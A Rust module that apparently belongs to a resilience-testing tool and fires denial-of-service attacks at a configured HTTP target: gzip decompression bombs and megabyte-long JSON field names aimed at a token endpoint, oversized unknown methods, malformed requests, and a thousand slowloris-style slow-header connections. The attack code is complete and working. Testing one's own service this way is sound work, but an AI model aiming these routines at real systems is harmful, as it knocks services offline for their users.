//! What anybody can send who reaches the port.

use std::io::Write as _;
use std::time::Duration;

use anyhow::Result;
use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::{Target, client};

const LOGIN: &str = "/v1/generate-api-token";
/// Connections that are kept open by a byte now and then.
const SLOW: usize = 1000;

/// Starts all of it.
pub(crate) fn attack(target: &Target, attacks: &mut JoinSet<Result<String>>) {
    for _ in 0..4 {
        attacks.spawn(bombs(target.clone()));
    }
    for _ in 0..2 {
        attacks.spawn(long_names(target.clone()));
        attacks.spawn(methods(target.clone()));
        attacks.spawn(malformed(target.clone()));
    }
    attacks.spawn(slow_heads(target.clone()));
}

/// A small body that inflates to 60 MiB.
async fn bombs(target: Target) -> Result<String> {
    let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..60 {
        bomb.write_all(&vec![b' '; 1024 * 1024])?;
    }
    let bomb = bomb.finish()?;
    let (http, mut sent) = (client()?, 0);
    while !target.is_over() {
        let request = http.post(format!("{}{LOGIN}", target.origin));
        let request = request
            .header("content-encoding", "gzip")
            .header("content-type", "application/json");
        // Refused in whatever way; what counts is what the others feel.
        let _ = request.body(bomb.clone()).send().await;
        sent += 1;
    }
    Ok(format!("{sent} bodies that inflate to 60 MiB"))
}

/// A name of a megabyte, which is no field.
async fn long_names(target: Target) -> Result<String> {
    let body = format!("{{\"{}\":1}}", "a".repeat(1_000_000));
    let (http, mut sent) = (client()?, 0);
    while !target.is_over() {
        let request = http.post(format!("{}{LOGIN}", target.origin));
        let request = request.header("content-type", "application/json");
        let _ = request.body(body.clone()).send().await;
        sent += 1;
    }
    Ok(format!("{sent} names of a megabyte"))
}

/// Methods that nobody has heard of, each once.
async fn methods(target: Target) -> Result<String> {
    let mut sent = 0;
    while !target.is_over() {
        let mut stream = TcpStream::connect(target.address()).await?;
        for _ in 0..100 {
            sent += 1;
            let long = "X".repeat(10_000);
            let request = format!("M{sent}{long} /x HTTP/1.1\r\nHost: x\r\n\r\n");
            let mut answer = [0; 4096];
            if stream.write_all(request.as_bytes()).await.is_err()
                || !matches!(stream.read(&mut answer).await, Ok(1..))
            {
                break;
            }
        }
    }
    Ok(format!("{sent} methods of ten kilobytes"))
}

/// What is no request.
async fn malformed(target: Target) -> Result<String> {
    let mut sent = 0;
    while !target.is_over() {
        let mut stream = TcpStream::connect(target.address()).await?;
        sent += 1;
        let mut answer = [0; 4096];
        let _ = stream.write_all(b"X\x01 / HTTP/1.1\r\n\r\n").await;
        let _ = stream.read(&mut answer).await;
    }
    Ok(format!("{sent} requests that are none"))
}

/// Connections whose second head comes a byte at a time.
async fn slow_heads(target: Target) -> Result<String> {
    let (mut streams, mut opened) = (Vec::new(), 0);
    while !target.is_over() {
        while streams.len() < SLOW {
            let mut stream = TcpStream::connect(target.address()).await?;
            opened += 1;
            let _ = stream
                .write_all(b"GET /x HTTP/1.1\r\nHost: x\r\n\r\nGET /v1/account HTTP/1.1\r\nX-A: ")
                .await;
            streams.push(stream);
        }
        let mut alive = Vec::new();
        for mut stream in streams {
            if stream.write_all(b"a").await.is_ok() {
                alive.push(stream);
            }
        }
        streams = alive;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(format!("{opened} connections with a slow head"))
}
